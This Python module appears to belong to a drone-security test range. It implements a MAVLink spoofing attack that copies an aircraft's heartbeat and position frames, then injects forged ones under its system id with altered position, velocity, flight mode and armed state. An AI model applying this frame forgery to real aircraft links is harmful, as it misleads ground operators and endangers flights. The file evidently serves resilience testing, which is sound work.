"""A second stream of reports with the system id of an aircraft: heartbeats and positions of the attacker's own."""

from __future__ import annotations

from dataclasses import replace
from math import atan2, degrees, hypot
from typing import Any, Final

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.message_fields import read_fields, write_fields
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.flight_modes import COPTER_MODE_NUMBERS
from skyrange.contracts.verdicts import Direction

_HEARTBEAT: Final = int(mav.MAVLINK_MSG_ID_HEARTBEAT)
_POSITION: Final = int(mav.MAVLINK_MSG_ID_GLOBAL_POSITION_INT)
_ARMED: Final = int(mav.MAV_MODE_FLAG_SAFETY_ARMED)


@sky.attack(
    "identity.second_vehicle",
    technique="T0849",
    persists="acts",
    effect="the ground station gets two conflicting streams of one aircraft, and acts on both",
    knowledge="the system id of the aircraft and its last reports, which it hears",
    position="on the network between aircraft and ground station; it need not hold up frames",
    equipment="a computer that sends MAVLink",
    budget="a frame of 40 bytes per position, 21 bytes per heartbeat",
    load="the sham: the same frames, repeating the aircraft's own last reports",
    content="none, because the sham has the true content",
    placement="the same stream on the link of another aircraft",
)
class SecondVehicle(sky.InjectionOnLinks):
    """Sends heartbeats and positions with the system id of an aircraft, beside its own.

    They are made from the last ones of the aircraft; there are none before it was heard. The sham repeats the
    aircraft's own last heartbeat and position, with as many bytes.
    """

    links: sky.LinkNames = sky.param(
        "Links gcs, log or autopilot by name or pattern, such as ['gcs:blue/b1']: the aircraft whose system id is "
        "claimed, towards its ground station."
    )
    at: sky.Enu = sky.param(
        "Claimed position at the start of the attack, [east_m, north_m, up_m] in metres from the origin or the "
        "attack's anchor."
    )
    velocity_mps: sky.Enu = sky.param("Claimed velocity, [east, north, up] in m/s.", default=(0.0, 0.0, 0.0))
    rate_hz: sky.Number = sky.param("Positions per second; one heartbeat per second.", default=4.0, ge=1, le=50)
    mode: sky.CopterMode | None = sky.param(
        "Claimed mode, such as 'LAND'; default: that of the aircraft.", default=None
    )
    armed: bool | None = sky.param("Claimed armed state; default: that of the aircraft.", default=None)
    way: Direction = "rev"
    origin: sky.Origin
    heard: dict[int, bytes] = sky.state(dict)
    """The last frame of the aircraft, by message id."""
    beat_ns: sky.Time = 0
    """When the next heartbeat is due."""
    sequence: int = 0

    def prepare(self, context: sky.AttackContext) -> None:
        self.origin = context.origin

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """Its taps, and where the second aircraft is at the start."""
        return replace(super().build(context), shown={"second aircraft": self.at})

    def period_ns(self) -> sky.Time:
        """Time between two positions."""
        return round(sky.NS_PER_S / self.rate_hz)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        payload = frame.payload
        number = sky.message_id(payload)
        if frame.direction != "rev" or number not in (_HEARTBEAT, _POSITION):
            return ()
        if read_fields(payload, number) is not None and payload[5] == self.target and payload[6] == sky.AUTOPILOT:
            self.heard[number] = payload
        return ()

    def send(self, now: sky.Time) -> sky.Verdicts:
        if len(self.heard) < 2:
            return ()
        beats = now >= self.beat_ns
        if beats:
            self.beat_ns = now + sky.NS_PER_S
        return [self.inject(self._frame(now, one)) for one in ((_HEARTBEAT, _POSITION) if beats else (_POSITION,))]

    def _frame(self, now: sky.Time, number: int) -> bytes:
        payload = self.heard[number]
        fields = read_fields(payload, number)
        if not self.sham:
            if number == _HEARTBEAT:
                self._claim_state(fields)
            else:
                self._claim_position(now, fields)
        self.sequence = (self.sequence + 1) & 0xFF
        header = payload[:4] + bytes([self.sequence]) + payload[5:]
        return write_fields(header, number, fields, fields.dtype.itemsize)

    def _claim_state(self, fields: Any) -> None:
        if self.mode is not None:
            sky.put(fields, "custom_mode", COPTER_MODE_NUMBERS[self.mode])
        if self.armed is not None:
            base = int(fields["base_mode"])
            sky.put(fields, "base_mode", base | _ARMED if self.armed else base & ~_ARMED)

    def _claim_position(self, now: sky.Time, fields: Any) -> None:
        at, (east, north, up) = self.at, self.velocity_mps
        seconds = (now - self.schedule.start_ns) / sky.NS_PER_S
        lat_deg, lon_deg = self.origin.geodetic_of(at[0] + east * seconds, at[1] + north * seconds)
        above_home_m = (float(fields["relative_alt"]) - float(fields["alt"])) * 1e-3
        msl_m = self.origin.alt_msl_m + at[2] + up * seconds
        claimed = {
            "lat": lat_deg * 1e7, "lon": lon_deg * 1e7, "alt": msl_m * 1e3,
            "relative_alt": (msl_m + above_home_m) * 1e3, "vx": north * 100, "vy": east * 100, "vz": -up * 100,
        }  # fmt: skip
        if hypot(east, north) > 0:
            claimed["hdg"] = degrees(atan2(east, north)) % 360.0 * 100
        for name, value in claimed.items():
            sky.put(fields, name, value)
